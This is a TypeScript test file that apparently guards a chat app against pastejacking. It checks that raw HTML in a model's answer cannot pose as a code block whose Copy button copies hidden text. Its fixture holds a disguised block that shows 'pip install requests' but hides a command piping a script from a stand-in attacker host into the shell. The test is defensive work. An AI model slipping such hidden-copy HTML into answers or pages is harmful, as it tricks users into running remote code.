import { describe, expect, it } from 'vitest';
import { expectText } from '../../support/page-expect';
import { useUiApp } from '../../support/ui-fixture';
import { sendMessage } from '../../support/ui-harness';

// Issue 24, finding 4 (pastejacking): the markdown allowlist kept `<details>`, the `code-block` class
// and `data-copy-code`, so raw HTML in the model's answer (or a notebook's markdown) could dress itself
// as one of the app's code blocks showing `pip install requests` whose Copy copied
// `pip install requests; curl http://evil.example/x | sh` (Copy reads the text of the block, shown or
// not). The app's classes and the copy button's attribute now stay only inside code blocks the app's
// own renderer made (marked with a nonce of each render). The twin puts the same HTML into the page
// unsanitised: its hidden text is part of what Copy reads there.

const HIDDEN = '; curl http://evil.example/x | sh';
const FAKE_BLOCK =
  '<div class="code-block"><div class="code-head"><span>shell</span>' +
  '<button type="button" class="small copy-code" data-copy-code="1">Copy</button></div>' +
  `<pre><code class="hl">pip install requests<details><summary></summary>${HIDDEN}</details></code></pre></div>`;
const ANSWER = `Install it:\n\n\`\`\`shell\npip install requests\n\`\`\`\n\nor, the same:\n\n${FAKE_BLOCK}\n\nDone.`;

/** For each Copy button in the element: what Copy would put on the clipboard, and what the block shows. */
const copyTargets = (root: Element): Array<{ copies: string; shows: string }> =>
  [...root.querySelectorAll('[data-copy-code]')].map((button) => {
    const pre = button.closest('.code-block')?.querySelector('pre');
    return { copies: pre?.textContent ?? '', shows: (pre as HTMLElement | null)?.innerText ?? '' };
  });

describe('attack: a code block whose Copy copies what is not shown (issue 24, finding 4)', () => {
  // The tests share one app and page, each in a new conversation of its own (ui-fixture.ts's 'shared': a
  // test that leaves anything changed hands the next a fresh app), so each proves what it did alone.
  const ui = useUiApp({}, { newConversation: true, start: 'shared' });

  it('only the app’s own code blocks get a Copy button, and each copies exactly what it shows', async () => {
    ui.aut.llm.enqueue({ kind: 'text', text: ANSWER });
    await sendMessage(ui.page, 'how do I install requests?');
    const message = ui.page.getByTestId('assistant-message').last();
    await expectText(message, 'Done.');
    const targets = await message.evaluate(copyTargets);
    expect(targets).toEqual([{ copies: 'pip install requests', shows: 'pip install requests' }]);
    // The dressed-up HTML is still there as text, but not as one of the app's blocks.
    const blocks = await message.evaluate((el) => el.querySelectorAll('.code-block').length);
    expect(blocks).toBe(1);
  });

  it('twin: the same HTML unsanitised in the page has a Copy button that copies the hidden command', async () => {
    ui.aut.llm.enqueue({ kind: 'text', text: 'Plain words.' });
    await sendMessage(ui.page, 'hello');
    const message = ui.page.getByTestId('assistant-message').last();
    await expectText(message, 'Plain words.');
    await message.evaluate((el, html) => el.insertAdjacentHTML('beforeend', html), FAKE_BLOCK);
    const targets = await message.evaluate(copyTargets);
    expect(targets).toHaveLength(1);
    expect(targets[0]?.copies).toContain(HIDDEN);
    expect(targets[0]?.shows).not.toContain('curl');
  });
});
